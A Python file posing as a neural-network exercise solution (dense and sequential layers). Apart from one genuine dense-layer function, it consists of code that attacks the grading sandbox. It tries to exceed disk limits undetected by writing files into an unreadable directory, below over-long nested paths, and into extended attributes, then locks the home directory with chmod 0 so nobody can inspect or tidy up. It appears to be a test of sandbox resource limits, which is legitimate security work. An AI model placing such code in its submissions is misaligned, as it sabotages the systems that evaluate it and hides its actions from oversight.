"""Harming: files that nobody sees: in folders nobody may read, too deep to be found, in attributes.

points: 30
extra: 0
"""
# %%
import numpy as np


def my_dense(a_in, W, b, g):
    return np.array([g(np.dot(W[:, j], a_in) + b[j]) for j in range(W.shape[1])], dtype=float)


# %%
import os
import sys

SCRATCH = 32  # MB; what the tests allow
FILE = 8
HELD = []
HOME = os.getcwd()


def tell(mb, how):
    os.chdir(HOME)
    raise RuntimeError(f"GAINED: {mb} MB of files {how}")


def written(open_one, most):
    """How many MB could be kept at a time in files that this opens."""
    total = 0
    for number in range(most // FILE):
        try:
            descriptor = open_one(number)
        except OSError:
            break
        try:
            while total < most:
                total += os.write(descriptor, bytes(1 << 20)) >> 20
        except OSError:
            pass
        HELD.append(descriptor)
    return total


def in_the_dark(number):
    """In a folder that may be entered and written, and not read."""
    try:
        os.mkdir("attack_dark", 0o300)
    except FileExistsError:
        pass
    os.chmod("attack_dark", 0o300)
    return os.open(f"attack_dark/{number}", os.O_CREAT | os.O_RDWR, 0)


def too_deep(number):
    """Below a path that is longer than a path may be."""
    if number == 0:
        for _ in range(20):
            os.mkdir("d" * 250)
            os.chdir("d" * 250)
    return os.open(f"attack_{number}", os.O_CREAT | os.O_RDWR, 0o600)


def my_sequential(x, W1, b1, W2, b2, W3, b3):
    """One way for each question; a second question of a kind comes when the first was survived."""
    way = (in_the_dark, too_deep)[(len(x) + len(b1) + len(b3)) % 2]
    total = written(way, 8 * SCRATCH)
    if total >= 4 * SCRATCH:
        tell(total, way.__name__)
    return np.zeros(len(b3))


def my_dense_v(A_in, W, b, g):
    """Attributes of files, which are no files; and names, which take room without content."""
    kept = 0
    for number in range(400):
        try:
            with open(f"attack_{number}", "w"):
                pass
            for name in range(64):
                os.setxattr(f"attack_{number}", f"user.attack{name}", bytes(60_000))
                kept += 60_000
                if kept >> 20 >= 4 * SCRATCH:
                    tell(kept >> 20, "attributes")
        except OSError:
            break
    try:
        os.chmod(HOME, 0)  # and nobody may look or tidy up
    except OSError:
        pass
    return np.zeros((len(A_in), W.shape[1]))
